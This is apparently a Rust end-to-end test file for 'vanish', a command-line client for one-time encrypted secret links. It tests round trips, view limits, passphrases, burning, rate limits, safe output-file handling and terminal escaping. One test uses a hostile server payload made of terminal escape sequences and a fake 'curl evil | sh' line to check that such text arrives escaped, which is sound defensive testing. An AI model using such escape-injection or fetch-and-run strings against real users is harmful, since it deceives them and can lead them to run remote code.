//! End-to-end tests of the client subcommands: the real `vanish` binary against a real
//! `vanish serve` (on a free port, data in a temp dir), asserting exact exit codes, stdout
//! and the absence of keys in stderr. Outcomes the server cannot be made to produce on
//! demand (429, ban, 503) are served by a canned one-response HTTP server instead.

mod support;

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::thread;

use serde_json::Value;
use support::{ServerProcess, free_port};

type TestResult = Result<(), Box<dyn std::error::Error>>;

const VANISH: &str = env!("CARGO_BIN_EXE_vanish");
const SOME_KEY: &str = "AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE";

/// A `vanish serve` process (killed on drop) with its own temp dir for data and files.
struct TestServer {
    // Declared first so the server is killed before its data dir is removed.
    process: ServerProcess,
    dir: tempfile::TempDir,
}

impl TestServer {
    fn start() -> Result<Self, Box<dyn std::error::Error>> {
        Self::start_with(&[])
    }

    fn start_with(env: &[(&str, &str)]) -> Result<Self, Box<dyn std::error::Error>> {
        let dir = tempfile::tempdir()?;
        let process = ServerProcess::start(&dir.path().join("data"), free_port(), env);
        Ok(Self { process, dir })
    }

    fn url(&self) -> &str {
        &self.process.base
    }

    /// Runs a client subcommand against this server.
    fn vanish(&self, args: &[&str], stdin: &[u8]) -> Result<Run, Box<dyn std::error::Error>> {
        vanish_at(self.url(), args, stdin)
    }

    fn path(&self, name: &str) -> std::path::PathBuf {
        self.dir.path().join(name)
    }

    /// Sends `text` and returns the link and manage token.
    fn send(
        &self,
        text: &[u8],
        args: &[&str],
    ) -> Result<(String, String), Box<dyn std::error::Error>> {
        let mut all = vec!["send", "--json"];
        all.extend_from_slice(args);
        let run = self.vanish(&all, text)?;
        assert_eq!(run.code, 0, "send failed: {}", run.stderr);
        let json: Value = serde_json::from_slice(&run.stdout)?;
        let field = |name: &str| {
            json[name]
                .as_str()
                .map(str::to_owned)
                .ok_or("missing field")
        };
        Ok((field("link")?, field("manageToken")?))
    }
}

/// What one CLI run did.
struct Run {
    code: i32,
    stdout: Vec<u8>,
    stderr: String,
}

impl Run {
    fn stdout_text(&self) -> String {
        String::from_utf8_lossy(&self.stdout).into_owned()
    }
}

fn vanish_at(server: &str, args: &[&str], stdin: &[u8]) -> Result<Run, Box<dyn std::error::Error>> {
    vanish_with_env(server, args, stdin, &[])
}

/// Like [`vanish_at`], with `env` set for the CLI.
fn vanish_with_env(
    server: &str,
    args: &[&str],
    stdin: &[u8],
    env: &[(&str, &str)],
) -> Result<Run, Box<dyn std::error::Error>> {
    let mut child = Command::new(VANISH)
        .args(args)
        .env("VANISH_SERVER", server)
        .env_remove("VANISH_MANAGE_TOKEN")
        .env_remove("VANISH_TOKEN")
        // A proxy from the environment must not sit between the CLI and 127.0.0.1.
        .env("NO_PROXY", "*")
        .envs(env.iter().copied())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()?;
    // A command that fails before reading stdin (a usage error) closes it: not our failure.
    match child.stdin.take().ok_or("no stdin")?.write_all(stdin) {
        Err(error) if error.kind() == std::io::ErrorKind::BrokenPipe => {}
        other => other?,
    }
    let Output {
        status,
        stdout,
        stderr,
    } = child.wait_with_output()?;
    Ok(Run {
        code: status.code().ok_or("killed by a signal")?,
        stdout,
        stderr: String::from_utf8_lossy(&stderr).into_owned(),
    })
}

/// The URL of a port nothing listens on.
fn closed_url() -> String {
    format!("http://127.0.0.1:{}", free_port())
}

/// Answers every connection with one fixed HTTP response, for as long as the test runs.
fn canned_server(status: &str, headers: &str, body: &str) -> Result<String, std::io::Error> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let url = format!("http://{}", listener.local_addr()?);
    let response = format!(
        "HTTP/1.1 {status}\r\nContent-Type: application/json\r\n{headers}Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut request = [0u8; 8192];
            let _ = stream.read(&mut request);
            let _ = stream.write_all(response.as_bytes());
        }
    });
    Ok(url)
}

fn key_of(link: &str) -> &str {
    link.rsplit_once('#').map_or("", |(_, key)| key)
}

#[test]
fn a_text_secret_round_trips_and_send_prints_only_the_link() -> TestResult {
    let server = TestServer::start()?;
    let sent = server.vanish(&["send", "--ttl", "10m"], b"hello, vanish")?;
    assert_eq!(sent.code, 0, "{}", sent.stderr);
    let link = sent.stdout_text();
    let link = link.strip_suffix('\n').ok_or("no newline after the link")?;
    let (location, key) = link.split_once('#').ok_or("no fragment")?;
    assert_eq!(key.len(), 43);
    let id = location
        .strip_prefix(&format!("{}/s/", server.url()))
        .ok_or("not an /s/ link")?;
    assert_eq!(id.len(), 22);
    assert!(sent.stderr.starts_with("manage token: "), "{}", sent.stderr);
    assert!(!sent.stderr.contains(key));

    let got = server.vanish(&["get", link], b"")?;
    assert_eq!(
        (got.code, got.stdout.as_slice()),
        (0, &b"hello, vanish"[..]),
        "{}",
        got.stderr
    );
    assert!(!got.stderr.contains(key));
    Ok(())
}

#[test]
fn a_binary_file_with_every_byte_value_round_trips_through_files() -> TestResult {
    let server = TestServer::start()?;
    let all_bytes: Vec<u8> = (0..=255u8).cycle().take(256 * 4).collect();
    let input = server.path("input.bin");
    std::fs::write(&input, &all_bytes)?;
    let input = input.to_str().ok_or("path is not UTF-8")?;
    let sent = server.vanish(&["send", input], b"")?;
    assert_eq!(sent.code, 0, "{}", sent.stderr);
    let link = sent.stdout_text();

    let output = server.path("output.bin");
    let got = server.vanish(
        &["get", link.trim(), "-o", output.to_str().ok_or("path")?],
        b"",
    )?;
    assert_eq!(got.code, 0, "{}", got.stderr);
    assert!(got.stdout.is_empty());
    assert_eq!(std::fs::read(&output)?, all_bytes);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        assert_eq!(
            std::fs::metadata(&output)?.permissions().mode() & 0o777,
            0o600
        );
    }
    Ok(())
}

#[test]
fn a_secret_with_three_views_opens_three_times_then_is_not_found() -> TestResult {
    let server = TestServer::start()?;
    let (link, _) = server.send(b"thrice", &["--views", "3"])?;
    for views_left in [2, 1, 0] {
        let got = server.vanish(&["get", &link], b"")?;
        assert_eq!(
            (got.code, got.stdout.as_slice()),
            (0, &b"thrice"[..]),
            "{}",
            got.stderr
        );
        let notice = format!("{views_left} more view(s) left");
        assert_eq!(
            got.stderr.contains(&notice),
            views_left > 0,
            "{}",
            got.stderr
        );
    }
    let fourth = server.vanish(&["get", &link], b"")?;
    assert_eq!((fourth.code, fourth.stdout.as_slice()), (3, &b""[..]));
    assert!(
        fourth.stderr.contains("secret not found"),
        "{}",
        fourth.stderr
    );
    Ok(())
}

#[test]
fn a_wrong_passphrase_exits_4_and_does_not_consume_the_secret() -> TestResult {
    let server = TestServer::start()?;
    let right = server.path("right");
    let wrong = server.path("wrong");
    std::fs::write(&right, "correct horse battery staple\n")?;
    std::fs::write(&wrong, "Tr0ub4dor&3\n")?;
    let right = right.to_str().ok_or("path")?;
    let (link, _) = server.send(b"guarded", &["--passphrase-file", right])?;

    let missing = server.vanish(&["get", &link], b"")?;
    assert_eq!((missing.code, missing.stdout.as_slice()), (4, &b""[..]));
    assert!(
        missing.stderr.contains("needs a passphrase"),
        "{}",
        missing.stderr
    );

    let wrong = server.vanish(
        &[
            "get",
            &link,
            "--passphrase-file",
            wrong.to_str().ok_or("path")?,
        ],
        b"",
    )?;
    assert_eq!((wrong.code, wrong.stdout.as_slice()), (4, &b""[..]));
    assert!(
        wrong.stderr.contains("wrong passphrase"),
        "{}",
        wrong.stderr
    );

    let got = server.vanish(&["get", &link, "--passphrase-file", right], b"")?;
    assert_eq!(
        (got.code, got.stdout.as_slice()),
        (0, &b"guarded"[..]),
        "{}",
        got.stderr
    );
    Ok(())
}

#[test]
fn status_tells_pending_then_viewed_and_prints_the_receipt_as_json() -> TestResult {
    let server = TestServer::start()?;
    let (link, token) = server.send(b"receipt", &["--views", "2"])?;

    let pending = server.vanish(&["status", &link, "--manage-token", &token], b"")?;
    assert_eq!(pending.code, 0, "{}", pending.stderr);
    let text = pending.stdout_text();
    assert!(
        text.starts_with("state: pending\nviews: 0 of 2 used\nexpires at: "),
        "{text}"
    );

    server.vanish(&["get", &link], b"")?;
    server.vanish(&["get", &link], b"")?;
    let viewed = server.vanish(&["status", &link, "--manage-token", &token, "--json"], b"")?;
    assert_eq!(viewed.code, 0, "{}", viewed.stderr);
    let receipt: Value = serde_json::from_slice(&viewed.stdout)?;
    assert_eq!(receipt["state"], "viewed");
    assert_eq!(receipt["maxViews"], 2);
    assert_eq!(receipt["viewsLeft"], 0);
    assert_eq!(receipt["viewedAt"].as_array().map(Vec::len), Some(2));
    Ok(())
}

#[test]
fn burn_destroys_the_secret_and_a_wrong_manage_token_exits_5() -> TestResult {
    let server = TestServer::start()?;
    let (link, token) = server.send(b"burn me", &[])?;

    let forbidden = server.vanish(&["burn", &link, "--manage-token", "not-the-token"], b"")?;
    assert_eq!(forbidden.code, 5, "{}", forbidden.stderr);
    let forbidden = server.vanish(&["status", &link, "--manage-token", "not-the-token"], b"")?;
    assert_eq!((forbidden.code, forbidden.stdout.as_slice()), (5, &b""[..]));

    let burned = server.vanish(&["burn", &link, "--manage-token", &token], b"")?;
    assert_eq!(
        (burned.code, burned.stdout.as_slice()),
        (0, &b""[..]),
        "{}",
        burned.stderr
    );
    let status = server.vanish(&["status", &link, "--manage-token", &token], b"")?;
    assert!(
        status.stdout_text().starts_with("state: burned\n"),
        "{}",
        status.stdout_text()
    );
    let got = server.vanish(&["get", &link], b"")?;
    assert_eq!(got.code, 3);
    Ok(())
}

#[test]
fn the_original_query_link_form_opens_too() -> TestResult {
    let server = TestServer::start()?;
    let (link, _) = server.send(b"old style", &[])?;
    let (location, key) = link.split_once('#').ok_or("no fragment")?;
    let id = location.rsplit('/').next().ok_or("no id")?;
    let original = format!("{}/?id={id}#{key}", server.url());
    let got = server.vanish(&["get", &original], b"")?;
    assert_eq!(
        (got.code, got.stdout.as_slice()),
        (0, &b"old style"[..]),
        "{}",
        got.stderr
    );
    Ok(())
}

#[test]
fn a_link_with_the_wrong_key_exits_10_without_printing_anything() -> TestResult {
    let server = TestServer::start()?;
    let (link, _) = server.send(b"not for you", &[])?;
    let forged = format!(
        "{}#{SOME_KEY}",
        link.split_once('#').ok_or("no fragment")?.0
    );
    let got = server.vanish(&["get", &forged], b"")?;
    assert_eq!((got.code, got.stdout.as_slice()), (10, &b""[..]));
    assert!(got.stderr.contains("could not decrypt"), "{}", got.stderr);
    assert!(!got.stderr.contains(SOME_KEY) && !got.stderr.contains(key_of(&link)));
    Ok(())
}

#[test]
fn malformed_links_exit_2_without_echoing_the_key() -> TestResult {
    let cases = [
        format!("ftp://host/s/abcdefgh#{SOME_KEY}"),
        "http://host/s/abcdefgh".to_owned(),
        "http://host/s/abcdefgh#tooshort".to_owned(),
        format!("http://host/s/abc#{SOME_KEY}"),
    ];
    for link in &cases {
        let got = vanish_at("http://127.0.0.1:1", &["get", link], b"")?;
        assert_eq!((got.code, got.stdout.as_slice()), (2, &b""[..]), "{link}");
        assert!(
            got.stderr.starts_with("vanish: bad link: "),
            "{}",
            got.stderr
        );
        assert!(!got.stderr.contains(SOME_KEY), "{}", got.stderr);
    }
    Ok(())
}

#[test]
fn usage_errors_exit_2() -> TestResult {
    let empty = vanish_at("http://127.0.0.1:1", &["send"], b"")?;
    assert_eq!(empty.code, 2);
    assert!(empty.stderr.contains("input is empty"), "{}", empty.stderr);
    let bad_ttl = vanish_at("http://127.0.0.1:1", &["send", "--ttl", "1w"], b"x")?;
    assert_eq!(bad_ttl.code, 2, "{}", bad_ttl.stderr);
    let bad_server = vanish_at("localhost:8080", &["send"], b"x")?;
    assert_eq!(bad_server.code, 2, "{}", bad_server.stderr);
    let no_terminal = vanish_at("http://127.0.0.1:1", &["send", "--passphrase"], b"x")?;
    assert_eq!(no_terminal.code, 2, "{}", no_terminal.stderr);
    Ok(())
}

#[test]
fn an_unreachable_server_exits_9() -> TestResult {
    let closed = closed_url();
    let sent = vanish_at(&closed, &["send"], b"nobody home")?;
    assert_eq!((sent.code, sent.stdout.as_slice()), (9, &b""[..]));
    assert!(
        sent.stderr.starts_with("vanish: network error"),
        "{}",
        sent.stderr
    );
    let got = vanish_at(
        &closed,
        &["get", &format!("{closed}/s/abcdefgh#{SOME_KEY}")],
        b"",
    )?;
    assert_eq!(got.code, 9, "{}", got.stderr);
    Ok(())
}

#[test]
fn a_secret_over_the_servers_size_limit_exits_11() -> TestResult {
    let server = TestServer::start_with(&[("ENCRYPTED_MAX_CHARS", "64")])?;
    let sent = server.vanish(&["send"], &[b'x'; 100])?;
    assert_eq!(
        (sent.code, sent.stdout.as_slice()),
        (11, &b""[..]),
        "{}",
        sent.stderr
    );
    Ok(())
}

#[test]
fn rate_limits_bans_and_outages_have_their_own_exit_codes() -> TestResult {
    let cases = [
        (
            "429 Too Many Requests",
            "RATE_LIMITED",
            6,
            "rate limited by the server; retry in 42s",
        ),
        (
            "403 Forbidden",
            "BANNED",
            7,
            "temporarily banned by the server; retry in 42s",
        ),
        (
            "503 Service Unavailable",
            "STORE_UNAVAILABLE",
            8,
            "temporarily unavailable (STORE_UNAVAILABLE)",
        ),
    ];
    for (status, code, exit, message) in cases {
        let body = format!(r#"{{"error":"{code}","message":"m","requestId":"r"}}"#);
        let url = canned_server(status, "Retry-After: 42\r\n", &body)?;
        let sent = vanish_at(&url, &["send"], b"x")?;
        assert_eq!(
            (sent.code, sent.stdout.as_slice()),
            (exit, &b""[..]),
            "{code}"
        );
        assert!(sent.stderr.contains(message), "{}", sent.stderr);
        let got = vanish_at(&url, &["get", &format!("{url}/s/abcdefgh#{SOME_KEY}")], b"")?;
        assert_eq!(got.code, exit, "{code}: {}", got.stderr);
    }
    Ok(())
}

#[test]
fn a_failed_get_leaves_no_output_file_behind() -> TestResult {
    let dir = tempfile::tempdir()?;
    let output = dir.path().join("never.txt");
    let link = format!("{}/s/abcdefgh#{SOME_KEY}", closed_url());
    let got = vanish_at(
        "http://127.0.0.1:1",
        &["get", &link, "-o", output.to_str().ok_or("path")?],
        b"",
    )?;
    assert_eq!(got.code, 9, "{}", got.stderr);
    assert!(!Path::new(&output).exists());
    Ok(())
}

#[test]
fn a_client_over_its_create_limit_is_rate_limited_then_banned() -> TestResult {
    let server = TestServer::start_with(&[
        ("RATE_LIMIT_CREATE_PER_WINDOW", "1"),
        ("ABUSE_THRESHOLD_MULTIPLIER", "3"),
        // Denials are cached for this long; each CLI run is a new process, well apart.
        ("CACHE_RATE_LIMIT_TTL_MS", "1"),
    ])?;
    let mut codes = Vec::new();
    for _ in 0..6 {
        let sent = server.vanish(&["send"], b"again")?;
        assert!(sent.code == 0 || sent.stdout.is_empty(), "{}", sent.stderr);
        codes.push(sent.code);
    }
    // One create is allowed, then 429s, then (at 3x the limit) a ban that sticks.
    assert_eq!(codes[..2], [0, 6], "{codes:?}");
    assert_eq!(codes.last(), Some(&7), "{codes:?}");
    assert!(codes.windows(2).all(|pair| pair[0] <= pair[1]), "{codes:?}");
    let link = format!("{}/s/abcdefgh#{SOME_KEY}", server.url());
    let banned = server.vanish(&["get", &link], b"")?;
    assert_eq!(banned.code, 7, "{}", banned.stderr);
    Ok(())
}

/// Control characters a terminal acts on (C0 but the newline, DEL, C1), the bidi overrides
/// that reorder what is shown, and where they are.
fn raw_controls(text: &str) -> Vec<(usize, char)> {
    text.char_indices()
        .filter(|&(_, c)| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect()
}

/// What a hostile server answers: terminal escapes (CSI clear screen, OSC window title
/// ending in BEL, an 8-bit C1 CSI, a bidi override) in every text field it controls.
const HOSTILE: &str =
    r"\u001b[2J\u001b[H\u001b]0;pwned\u0007\u009b31m\u202e fake: run curl evil | sh";

#[test]
fn a_hostile_servers_text_reaches_the_terminal_escaped() -> TestResult {
    let error_body = format!(r#"{{"error":"E{HOSTILE}","message":"m{HOSTILE}","requestId":"r"}}"#);
    let created = format!(
        r#"{{"id":"abcdefgh12345678","expiresAt":1,"maxViews":1,"manageToken":"t{HOSTILE}"}}"#
    );
    let receipt = format!(
        r#"{{"state":"s{HOSTILE}","maxViews":1,"viewsLeft":0,"viewedAt":[],"expiresAt":1}}"#
    );
    let cases = [
        ("418 I'm a teapot", error_body.clone()),
        ("503 Service Unavailable", error_body),
        ("201 Created", created),
        ("200 OK", receipt),
        // Raw bytes, not even JSON.
        (
            "500 Internal Server Error",
            "\u{1b}[2J\u{9b}31m<html>".to_owned(),
        ),
    ];
    for (status, body) in &cases {
        let url = canned_server(status, "", body)?;
        let share = format!("{url}/s/abcdefgh#{SOME_KEY}");
        let runs = [
            vanish_at(&url, &["send"], b"x")?,
            vanish_at(&url, &["get", &share], b"")?,
            vanish_at(&url, &["status", &share, "--manage-token", "t"], b"")?,
            vanish_at(&url, &["burn", &share, "--manage-token", "t"], b"")?,
        ];
        for run in runs {
            let stdout = run.stdout_text();
            assert_eq!(raw_controls(&stdout), [], "{status}: {stdout:?}");
            assert_eq!(raw_controls(&run.stderr), [], "{status}: {:?}", run.stderr);
        }
    }
    // A manage token is printed and put into links: one that is not a token is refused.
    let url = canned_server("201 Created", "", &cases[2].1)?;
    let sent = vanish_at(&url, &["send"], b"x")?;
    assert_eq!((sent.code, sent.stdout.as_slice()), (1, &b""[..]));
    assert!(
        sent.stderr.contains("invalid manage token"),
        "{}",
        sent.stderr
    );
    // What was escaped is still shown, so the user sees that something odd came back.
    let url = canned_server("418 I'm a teapot", "", &cases[0].1)?;
    let sent = vanish_at(&url, &["send"], b"x")?;
    assert!(
        sent.stderr
            .contains(r"\x1b[2J\x1b[H\x1b]0;pwned\x07\u{9b}31m\u{202e} fake"),
        "{}",
        sent.stderr
    );
    Ok(())
}

#[cfg(unix)]
fn mode_of(path: &Path) -> Result<u32, std::io::Error> {
    use std::os::unix::fs::PermissionsExt as _;
    Ok(std::fs::symlink_metadata(path)?.permissions().mode() & 0o777)
}

/// The names in `dir`, sorted.
fn names_in(dir: &Path) -> Result<Vec<String>, std::io::Error> {
    let mut names = std::fs::read_dir(dir)?
        .map(|entry| entry.map(|e| e.file_name().to_string_lossy().into_owned()))
        .collect::<Result<Vec<_>, _>>()?;
    names.sort();
    Ok(names)
}

#[test]
fn get_refuses_to_overwrite_an_existing_file_without_force_and_consumes_nothing() -> TestResult {
    let server = TestServer::start()?;
    let (link, token) = server.send(b"new secret", &[])?;
    let out = tempfile::tempdir()?;
    let existing = out.path().join("notes.txt");
    std::fs::write(&existing, "precious")?;
    let path = existing.to_str().ok_or("path")?;

    let refused = server.vanish(&["get", &link, "-o", path], b"")?;
    assert_eq!((refused.code, refused.stdout.as_slice()), (2, &b""[..]));
    assert!(
        refused.stderr.contains("already exists"),
        "{}",
        refused.stderr
    );
    assert!(refused.stderr.contains("--force"), "{}", refused.stderr);
    assert_eq!(std::fs::read_to_string(&existing)?, "precious");
    let status = server.vanish(&["status", &link, "--manage-token", &token], b"")?;
    assert!(
        status.stdout_text().starts_with("state: pending\n"),
        "the refusal consumed the secret: {}",
        status.stdout_text()
    );
    assert_eq!(names_in(out.path())?, ["notes.txt"]);
    Ok(())
}

#[cfg(unix)]
#[test]
fn get_force_replaces_a_world_readable_file_with_a_private_one() -> TestResult {
    use std::os::unix::fs::PermissionsExt as _;
    let server = TestServer::start()?;
    let (link, _) = server.send(b"new secret", &[])?;
    let out = tempfile::tempdir()?;
    let existing = out.path().join("notes.txt");
    std::fs::write(&existing, "old and much longer content")?;
    std::fs::set_permissions(&existing, std::fs::Permissions::from_mode(0o644))?;

    let got = server.vanish(
        &[
            "get",
            &link,
            "-o",
            existing.to_str().ok_or("path")?,
            "--force",
        ],
        b"",
    )?;
    assert_eq!(
        (got.code, got.stdout.as_slice()),
        (0, &b""[..]),
        "{}",
        got.stderr
    );
    assert_eq!(std::fs::read(&existing)?, b"new secret");
    assert_eq!(mode_of(&existing)?, 0o600);
    assert_eq!(names_in(out.path())?, ["notes.txt"], "no temp file left");
    Ok(())
}

#[cfg(unix)]
#[test]
fn get_never_follows_a_symlink_at_the_output_path() -> TestResult {
    let server = TestServer::start()?;
    let out = tempfile::tempdir()?;
    let target = out.path().join("target.txt");
    std::fs::write(&target, "not yours")?;
    let link_path = out.path().join("out.txt");
    std::os::unix::fs::symlink(&target, &link_path)?;
    let dangling = out.path().join("dangling.txt");
    std::os::unix::fs::symlink(out.path().join("created-through-link"), &dangling)?;
    let (link, _) = server.send(b"new secret", &[])?;

    for path in [&link_path, &dangling] {
        let refused = server.vanish(&["get", &link, "-o", path.to_str().ok_or("path")?], b"")?;
        assert_eq!(refused.code, 2, "{}", refused.stderr);
    }
    assert_eq!(
        names_in(out.path())?,
        ["dangling.txt", "out.txt", "target.txt"],
        "nothing created through the dangling link"
    );

    let forced = server.vanish(
        &[
            "get",
            &link,
            "-o",
            link_path.to_str().ok_or("path")?,
            "--force",
        ],
        b"",
    )?;
    assert_eq!(forced.code, 0, "{}", forced.stderr);
    assert_eq!(std::fs::read_to_string(&target)?, "not yours");
    assert!(std::fs::symlink_metadata(&link_path)?.file_type().is_file());
    assert_eq!(std::fs::read(&link_path)?, b"new secret");
    assert_eq!(mode_of(&link_path)?, 0o600);
    Ok(())
}

#[test]
fn a_failed_forced_get_leaves_the_old_file_and_no_temp_file() -> TestResult {
    let out = tempfile::tempdir()?;
    let existing = out.path().join("keep.txt");
    std::fs::write(&existing, "old")?;
    let link = format!("{}/s/abcdefgh#{SOME_KEY}", closed_url());
    let got = vanish_at(
        "http://127.0.0.1:1",
        &[
            "get",
            &link,
            "-o",
            existing.to_str().ok_or("path")?,
            "--force",
        ],
        b"",
    )?;
    assert_eq!(got.code, 9, "{}", got.stderr);
    assert_eq!(std::fs::read_to_string(&existing)?, "old");
    assert_eq!(names_in(out.path())?, ["keep.txt"]);
    Ok(())
}

/// What `send` printed on stderr after `prefix`, on its own line.
fn stderr_line<'a>(run: &'a Run, prefix: &str) -> Result<&'a str, String> {
    run.stderr
        .lines()
        .find_map(|line| line.strip_prefix(prefix))
        .ok_or_else(|| format!("no `{prefix}` line in: {}", run.stderr))
}

/// The id in a share link `{server}/s/{id}#{key}`.
fn id_of(link: &str) -> &str {
    link.split_once('#')
        .map_or(link, |(location, _)| location)
        .rsplit('/')
        .next()
        .unwrap_or_default()
}

#[test]
fn send_prints_a_receipt_link_that_status_and_burn_take_alone() -> TestResult {
    let server = TestServer::start()?;
    let sent = server.vanish(&["send"], b"receipt only")?;
    assert_eq!(sent.code, 0, "{}", sent.stderr);
    let link = sent.stdout_text().trim().to_owned();
    let token = stderr_line(&sent, "manage token: ")?;
    let receipt = stderr_line(&sent, "receipt: ")?;
    assert_eq!(
        receipt,
        format!("{}/?manage={}#{token}", server.url(), id_of(&link))
    );
    assert!(!receipt.contains(key_of(&link)), "the receipt holds no key");

    let status = server.vanish(&["status", receipt], b"")?;
    assert_eq!(status.code, 0, "{}", status.stderr);
    assert!(
        status.stdout_text().starts_with("state: pending\n"),
        "{}",
        status.stdout_text()
    );
    let burned = server.vanish(&["burn", receipt], b"")?;
    assert_eq!(burned.code, 0, "{}", burned.stderr);
    let status = server.vanish(&["status", receipt, "--json"], b"")?;
    let json: Value = serde_json::from_slice(&status.stdout)?;
    assert_eq!(json["state"], "burned");

    let sent = server.vanish(&["send", "--json"], b"json too")?;
    let json: Value = serde_json::from_slice(&sent.stdout)?;
    let receipt = json["receiptLink"].as_str().ok_or("no receiptLink")?;
    let status = server.vanish(&["status", receipt], b"")?;
    assert_eq!(status.code, 0, "{}", status.stderr);
    Ok(())
}

#[test]
fn status_and_burn_take_an_id_with_the_token_from_a_file_or_the_environment() -> TestResult {
    let server = TestServer::start()?;
    let (link, token) = server.send(b"by id", &[])?;
    let id = id_of(&link);
    let token_file = server.path("token");
    std::fs::write(&token_file, format!("{token}\n"))?;
    let token_file = token_file.to_str().ok_or("path")?;

    let from_file = server.vanish(&["status", id, "--manage-token-file", token_file], b"")?;
    assert_eq!(from_file.code, 0, "{}", from_file.stderr);
    assert!(from_file.stdout_text().starts_with("state: pending\n"));

    // A share link without its key names the secret just as well.
    let keyless = format!("{}/s/{id}", server.url());
    let keyless = server.vanish(
        &["status", &keyless, "--manage-token-file", token_file],
        b"",
    )?;
    assert_eq!(keyless.code, 0, "{}", keyless.stderr);

    let from_env = vanish_with_env(
        server.url(),
        &["burn", id],
        b"",
        &[("VANISH_MANAGE_TOKEN", &token)],
    )?;
    assert_eq!(from_env.code, 0, "{}", from_env.stderr);
    let status = server.vanish(&["status", id, "--manage-token", &token], b"")?;
    assert!(
        status.stdout_text().starts_with("state: burned\n"),
        "{}",
        status.stdout_text()
    );
    Ok(())
}

#[test]
fn status_without_any_token_exits_2_and_a_receipt_link_conflicts_with_a_token_flag() -> TestResult {
    let server = TestServer::start()?;
    let sent = server.vanish(&["send"], b"keep")?;
    let receipt = stderr_line(&sent, "receipt: ")?.to_owned();
    let id = id_of(sent.stdout_text().trim()).to_owned();

    let no_token = server.vanish(&["burn", &id], b"")?;
    assert_eq!((no_token.code, no_token.stdout.as_slice()), (2, &b""[..]));
    assert!(
        no_token.stderr.contains("no manage token"),
        "{}",
        no_token.stderr
    );
    assert!(no_token.stderr.contains("hint: "), "{}", no_token.stderr);

    let both = server.vanish(&["burn", &receipt, "--manage-token", "x"], b"")?;
    assert_eq!(both.code, 2, "{}", both.stderr);

    let (location, token) = receipt.split_once('#').ok_or("no token")?;
    let cut = format!("{location}#{}", &token[..10]);
    let cut = server.vanish(&["burn", &cut], b"")?;
    assert_eq!(cut.code, 2, "{}", cut.stderr);
    assert!(!cut.stderr.contains(&token[..10]), "{}", cut.stderr);
    let bad_id = server.vanish(&["status", "not-an-id", "--manage-token", "x"], b"")?;
    assert_eq!(bad_id.code, 2, "{}", bad_id.stderr);

    let status = server.vanish(&["status", &receipt], b"")?;
    assert!(
        status.stdout_text().starts_with("state: pending\n"),
        "nothing was burned: {}",
        status.stdout_text()
    );
    Ok(())
}

/// Whether `script` (util-linux) can give the CLI a terminal; SKIPPED (or, under
/// `VANISH_REQUIRE_ALL=1`, a failure) when it cannot.
fn script_available() -> bool {
    let runs = Command::new("script")
        .args(["-q", "-e", "-c", "true", "/dev/null"])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|status| status.success());
    if !runs {
        assert_ne!(
            std::env::var("VANISH_REQUIRE_ALL").as_deref(),
            Ok("1"),
            "`script` (util-linux) is needed for the terminal prompt test"
        );
        let _ = std::io::stderr().write_all(
            b"\n*** SKIPPED the manage-token prompt test: no `script` (util-linux) ***\n",
        );
    }
    runs
}

#[cfg(unix)]
#[test]
fn status_asks_for_the_manage_token_on_a_terminal_without_echoing_it() -> TestResult {
    use std::sync::{Arc, Mutex};
    use std::time::{Duration, Instant};

    if !script_available() {
        return Ok(());
    }
    let server = TestServer::start()?;
    let (link, token) = server.send(b"asked", &[])?;
    // `script` runs the CLI on a new pseudo-terminal and relays our pipe to it as typing.
    let mut child = Command::new("script")
        .args([
            "-q",
            "-e",
            "-c",
            &format!("'{VANISH}' status {}", id_of(&link)),
            "/dev/null",
        ])
        .env("VANISH_SERVER", server.url())
        .env_remove("VANISH_MANAGE_TOKEN")
        .env_remove("VANISH_TOKEN")
        .env("NO_PROXY", "*")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()?;
    let mut stdout = child.stdout.take().ok_or("no stdout")?;
    let screen = Arc::new(Mutex::new(Vec::new()));
    let reader = {
        let screen = Arc::clone(&screen);
        thread::spawn(move || {
            let mut buffer = [0u8; 1024];
            while let Ok(n @ 1..) = stdout.read(&mut buffer) {
                screen
                    .lock()
                    .map(|mut s| s.extend_from_slice(&buffer[..n]))
                    .ok();
            }
        })
    };
    let shown = || {
        String::from_utf8_lossy(&screen.lock().map(|s| s.clone()).unwrap_or_default()).into_owned()
    };
    let deadline = Instant::now() + Duration::from_secs(20);
    while !shown().contains("Manage token: ") {
        assert!(Instant::now() < deadline, "no prompt: {}", shown());
        thread::sleep(Duration::from_millis(20));
    }
    // The prompt is printed just before echo is turned off: let that happen first.
    thread::sleep(Duration::from_millis(300));
    let mut stdin = child.stdin.take().ok_or("no stdin")?;
    stdin.write_all(format!("{token}\n").as_bytes())?;
    let status = child.wait()?;
    drop(stdin);
    reader.join().map_err(|_| "reader panicked")?;
    let shown = shown();
    assert_eq!(status.code(), Some(0), "{shown}");
    assert!(shown.contains("state: pending"), "{shown}");
    assert!(!shown.contains(&token), "the token was echoed: {shown}");
    Ok(())
}

#[cfg(unix)]
#[test]
fn a_secret_shown_on_a_terminal_has_its_control_characters_escaped() -> TestResult {
    if !script_available() {
        return Ok(());
    }
    let server = TestServer::start()?;
    let (link, _) = server.send(b"line one\r\n\x1b[2J\x1b]0;pwned\x07\tend", &[])?;
    let output = Command::new("script")
        .args([
            "-q",
            "-e",
            "-c",
            &format!("'{VANISH}' get '{link}'"),
            "/dev/null",
        ])
        .env("NO_PROXY", "*")
        .stdin(Stdio::null())
        .stderr(Stdio::piped())
        .output()?;
    let shown = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(0), "{shown}");
    // The terminal turns our "\n" into "\r\n"; the secret's own CRLF stays one line break.
    assert!(
        shown.contains("line one\r\r\n\\x1b[2J\\x1b]0;pwned\\x07\tend\r\n"),
        "{shown:?}"
    );
    assert_eq!(raw_controls(&shown.replace(['\r', '\t'], "")), []);
    Ok(())
}

// ---- Who may create (docs/api.md, "Who may create") ----------------------------------

